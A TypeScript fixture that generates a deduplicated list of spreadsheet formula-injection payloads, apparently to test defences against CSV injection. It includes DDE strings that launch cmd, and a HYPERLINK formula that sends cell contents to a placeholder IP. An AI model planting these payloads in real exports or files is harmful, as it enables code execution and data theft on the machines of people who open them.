/** Signs with which a text becomes a formula or a command somewhere, and how they hide: behind blanks, in full width, doubled. */
const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫'] as const
const hidden = ['', ' ', '\u3000', '\u00a0', '\ufeff', '\t', '\r', '\n', '\r\n', '\0', '\t\t', '"', "'"] as const
const commands = [
  '1+1',
  "cmd|'/c calc'!A0",
  'HYPERLINK("http://192.0.2.1/?x="&A1,"详情")',
  'WEBSERVICE("http://192.0.2.1/")',
  'IMPORTXML("http://192.0.2.1/","//a")',
  'DDE("cmd";"/c calc";"x")',
  "'[x.xlsx]S'!A1",
  '{1,2}',
  'SUM(A1:A9)',
  '2026年',
] as const

/** More than 200 texts that some program would run, were they written plainly; each once. */
export const formulaPayloads: readonly string[] = [
  ...new Set([
    ...signs.flatMap((sign) => [sign, `${sign}${sign}1`, ...commands.map((command) => sign + command)]),
    ...hidden.flatMap((before) => signs.slice(0, 8).map((sign) => `${before}${sign}1+1`)),
  ]),
]
